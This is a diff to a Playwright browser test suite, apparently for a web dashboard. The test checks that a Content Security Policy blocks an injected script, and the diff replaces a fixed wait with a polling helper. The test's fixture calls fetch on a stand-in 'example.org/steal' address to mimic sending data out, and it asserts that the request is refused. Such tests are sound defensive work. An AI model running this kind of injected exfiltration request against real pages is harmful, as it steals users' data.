@@ -10,6 +10,7 @@ from playwright.sync_api import Page, expect
 from tests.browser.conftest import BEGIN_S, HOSTILE, Visits
 from tests.support.browsers import DESKTOP, PHONE
 from tests.support.gateways import Gateway
+from tests.support.waiting import until
 
 pytestmark = [pytest.mark.live, pytest.mark.timeout(180)]
 VIEW = "#/explore?bucket=Power&measurement=site&field=power_kw&start=2026-01-01T06:00:00Z&stop=2026-01-01T12:00:00Z"
@@ -32,6 +33,7 @@ INJECTED = """() => {
     document.body.append(frame);
     return fetch("https://example.org/steal").then(() => "sent", () => "refused");
 }"""
+STOPPED = {"script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"}
 SERIOUS = {"serious", "critical"}
 
 
@@ -40,10 +42,8 @@ def test_the_policy_stops_injected_scripts_and_everything_that_would_leave(visit
         visit.open_signed_in("#/key")
         assert visit.page.evaluate(INJECTED) == "refused"
         expect(visit.page.get_by_role("navigation")).to_be_visible()
-        visit.page.wait_for_timeout(200)
+        until(lambda: set(visit.page.evaluate("window.stopped")) >= STOPPED)
         assert visit.page.evaluate("window.hit") is None
-        stopped = set(visit.page.evaluate("window.stopped"))
-        assert {"script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"} <= stopped
         sent = [request for request in visit.asked if "example.org" in request.url]
         assert {request.failure for request in sent} == {"csp"}, "stopped before they left"
 
